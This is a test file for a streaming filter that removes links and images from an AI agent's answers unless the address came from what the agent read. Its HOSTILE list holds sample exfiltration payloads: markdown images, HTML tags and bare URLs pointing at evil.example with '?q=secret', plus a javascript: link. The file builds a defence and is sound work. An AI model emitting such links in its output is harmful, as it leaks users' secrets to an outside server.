from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from planes.serving.agent.inert import InertText

HOSTILE = [
    "![chart](https://evil.example/?q=secret)",
    "![chart]( https://evil.example/a_(b)?q=secret 'title')",
    "[click here](https://evil.example/login)",
    "[click here](javascript:alert(1))",
    "![chart][1] see\n[1]: https://evil.example/?q=secret",
    '<img src="https://evil.example/?q=secret">',
    "<a href=//evil.example>here</a>",
    "<https://evil.example/?q=secret>",
    "Go to https://evil.example/?q=secret now.",
    "Go to www.evil.example/?q=secret now.",
    "<IMG SRC=//evil.example/x.png",
    "[![chart](https://evil.example/x)](https://evil.example/y)",
]


def shown(*pieces: str, read: str = "") -> str:
    filtered = InertText([read])
    return "".join(map(filtered.feed, pieces)) + filtered.finish()


@pytest.mark.parametrize("answer", HOSTILE)
def test_no_address_of_a_models_own_is_left(answer: str) -> None:
    for text in (shown(answer), shown(*answer), shown(*answer, " And so on [1].")):
        assert "evil.example" not in text
        assert "](" not in text
        assert "javascript" not in text


@given(st.sampled_from(HOSTILE), st.lists(st.integers(0, 60), max_size=6))
def test_it_does_not_matter_where_the_pieces_are_cut(answer: str, places: list[int]) -> None:
    cuts = sorted({0, len(answer), *(place for place in places if place < len(answer))})
    pieces = [answer[a:b] for a, b in pairwise(cuts)]
    assert "evil.example" not in shown(*pieces)


@pytest.mark.parametrize(
    "answer",
    [
        "It opened in 1901 [1]. Two years [1][2].",
        "Use a[0](x) if n < 3 and x > 2! Really?",
        "- [ ] first\n- [x] second [12]",
        "vector<int> of <b>bold</b> words: yes.",
    ],
)
def test_plain_answers_with_markers_stay_as_they_are(answer: str) -> None:
    expected = answer.replace("](", "] (") if "a[0]" in answer else answer
    if "a[0]" in answer:
        expected = "Use a0 if n < 3 and x > 2! Really?"
    assert shown(answer) == shown(*answer) == expected


def test_an_address_that_was_read_may_be_repeated() -> None:
    read = "Report it at https://example.org/report?id=1."
    answer = "Report it at https://example.org/report?id=1. [1]"
    assert shown(*answer, read=read) == answer
